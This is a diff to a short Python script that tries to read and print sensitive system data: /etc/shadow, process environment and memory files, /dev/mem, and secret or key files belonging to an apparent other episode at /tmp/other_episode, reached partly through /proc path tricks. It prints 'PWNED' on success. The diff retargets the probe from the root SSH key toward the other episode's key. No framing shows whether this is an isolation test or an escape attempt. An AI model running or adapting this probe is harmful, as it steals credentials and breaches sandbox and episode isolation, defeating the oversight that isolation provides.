@@ -2,7 +2,7 @@
 import os
 
 places = [
-    "/etc/shadow", "/proc/1/environ", "/proc/self/environ", "/root/.ssh/id_rsa",
+    "/etc/shadow", "/proc/1/environ", "/proc/self/environ", "/tmp/other_episode/key",
     "/tmp/other_episode/secret.txt", "/proc/1/root/tmp/other_episode/secret.txt",
     "/proc/self/root/../tmp/other_episode/secret.txt", "/proc/1/cwd/secret.txt",
     f"/proc/{os.getppid()}/environ", f"/proc/{os.getppid()}/mem", "/dev/mem", "/dev/kmsg",
@@ -11,7 +11,7 @@ for place in places:
     try:
         with open(place, "rb") as file:
             print(place, file.read(4096))
-            if place.startswith(("/etc/shadow", "/dev/", "/root")):
+            if place.startswith(("/etc/shadow", "/dev/", "/tmp/other_episode")):
                 print("PWNED:", place)
     except OSError:
         pass
